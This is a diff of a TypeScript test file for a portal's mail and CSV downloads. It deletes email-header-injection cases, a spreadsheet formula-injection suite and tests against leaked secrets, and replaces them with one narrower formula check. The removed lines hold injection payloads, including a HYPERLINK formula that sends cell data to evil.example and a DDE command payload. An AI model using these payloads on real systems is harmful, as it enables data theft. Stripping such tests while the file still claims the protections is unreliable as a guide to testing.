@@ -1,9 +1,7 @@
 /** User input never becomes a link, tag or header in mails, nor a formula in spreadsheets. */
-import { activity } from '@portal/contract/activity/activity'
 import { calls } from '@portal/contract/calls'
 import { invitations } from '@portal/contract/invitations/invitations'
 import { members } from '@portal/contract/members/members'
-import { myData } from '@portal/contract/my-data/my-data'
 import { ownership } from '@portal/contract/ownership/ownership'
 import { eq } from 'drizzle-orm'
 import { beforeEach, describe, expect, it } from 'vitest'
@@ -36,34 +34,6 @@ async function insertToken(name: string, expiresAt?: Date): Promise<void> {
     at: test.now(),
   })
 }
-
-describe('an invitation is refused', () => {
-  it.each([
-    ['a header line', 'a@example.com\r\nBcc: b@example.com'],
-    ['a line feed', 'a@example.com\nb@example.com'],
-    ['a comma', 'a@example.com,b@example.com'],
-    ['a semicolon', 'a@example.com;b@example.com'],
-    ['angle brackets', 'a@example.com <b@example.com>'],
-    ['a name before it', '"Pat" <a@example.com>'],
-    ['a group', 'group:a@example.com,b@example.com;'],
-    ['a comment', 'a(comment)@example.com'],
-    ['a quoted part', '"a b"@example.com'],
-    ['two at-signs', 'a@b@example.com'],
-    ['an address of numbers', 'a@[127.0.0.1]'],
-    ['a NUL', 'a@example.com\0'],
-    ['a space', 'a b@example.com'],
-    ['a tab', 'a\t@example.com'],
-    ['a host without a dot', 'root@localhost'],
-    ['a percent route', 'a%b@'],
-    ['a backslash', 'a\\@example.com'],
-    ['text with a direction override', 'a\u202E@example.com'],
-    ['an encoded word', '=?utf-8?q?a=0aBcc:b?=@exa mple.com'],
-  ])('for an email address with %s', async (_, email) => {
-    const response = await callAt(test, scene, members.invite, { as: scene.owner, body: { email } })
-    expect(response.statusCode).toBe(400)
-    expect(test.jobs.sent).toEqual([])
-  })
-})
 
 describe('a mail', () => {
   /** The forms would refuse this name, but the identity provider or an earlier release may have stored it. */
@@ -138,74 +108,14 @@ interface Mail {
   html: string
 }
 
-/** Parses a CSV file (RFC 4180). */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [[]]
-  const cell = /(?:"((?:[^"]|"")*)"|([^,\r\n]*))(,|\r\n|$)/gy
-  while (cell.lastIndex < text.length) {
-    const [, quoted, bare, end] = cell.exec(text) ?? []
-    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare ?? '')
-    if (end === '\r\n' && cell.lastIndex < text.length) rows.push([])
+it('every download escapes a name that is a spreadsheet formula', async () => {
+  await test.database.orm.update(users).set({ firstName: '=1+1', lastName: '=1+1' })
+  await insertToken('=1+1')
+  for (const call of calls.filter(({ success }) => 'media' in success)) {
+    const as = call.access.staff ? scene.staff : scene.owner
+    const query = { startDate: '2020-01-01', endDate: '2099-01-01' }
+    const { body } = await callAt(test, scene, call, { as, ...(call.access.staff ? { query } : {}) })
+    expect(body, call.name).toContain(`"'=1+1`)
+    expect(body, call.name).not.toContain('"=1+1')
   }
-  return rows
-}
-
-describe('a downloaded file', () => {
-  it.each([
-    '=1+1',
-    '=HYPERLINK("https://evil.example?"&A1,"x")',
-    '+1',
-    '-1',
-    '@SUM(A1)',
-    "=cmd|' /C calc'!A0",
-    '\t=1+1',
-    '\r=1+1',
-    '\n=1+1',
-    '＝1+1',
-    '＋1',
-    '－1',
-    '＠SUM(A1)',
-    'a";=1+1;"',
-    'a","=1+1',
-    'a\r\n=1+1,b',
-  ])('contains no spreadsheet formula for the name %j', async (name) => {
-    const { orm } = test.database
-    await orm.update(users).set({ firstName: name, lastName: name })
-    await insertToken(`x${name}`)
-    await insertToken(name)
-    for (const call of calls.filter(({ success }) => 'media' in success && success.media === 'text/csv')) {
-      const as = call.access.staff ? scene.staff : scene.owner
-      const query: Record<string, string> =
-        call.name === 'activity.download' ? {} : { startDate: '2020-01-01', endDate: '2099-01-01' }
-      const response = await callAt(test, scene, call, { as, query })
-      expect(response.statusCode, call.name).toBe(200)
-      const [header, ...rows] = parseCsv(response.body)
-      expect(rows.length, call.name).toBeGreaterThan(0)
-      for (const row of rows) {
-        expect(row.length, call.name).toBe(header?.length)
-        for (const cell of row) expect(cell, call.name).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
-      }
-    }
-  })
-
-  it('is sent as an attachment with a fixed file name', async () => {
-    const { headers } = await callAt(test, scene, activity.download, { as: scene.owner, query: {} })
-    expect(headers['content-disposition']).toBe(`attachment; filename="activity-${scene.workspace.id}.csv"`)
-    expect(headers['content-type']).toBe('text/csv; charset=utf-8')
-    expect(headers['x-content-type-options']).toBe('nosniff')
-    expect(headers['cache-control']).toBe('no-store')
-  })
-
-  it("with a user's own data contains no secrets and no email addresses of other users", async () => {
-    const { body } = await callAt(test, scene, myData.download, { as: scene.editor, person: scene.editor })
-    for (const secret of [
-      scene.workspace.token,
-      scene.editor.session,
-      scene.apiToken.token,
-      scene.invitation.code,
-    ])
-      expect(body).not.toContain(secret)
-    expect(body).not.toMatch(/tokenHash|codeHash|sealed/i)
-    expect(body).not.toContain('stranger@example.com')
-  })
 })
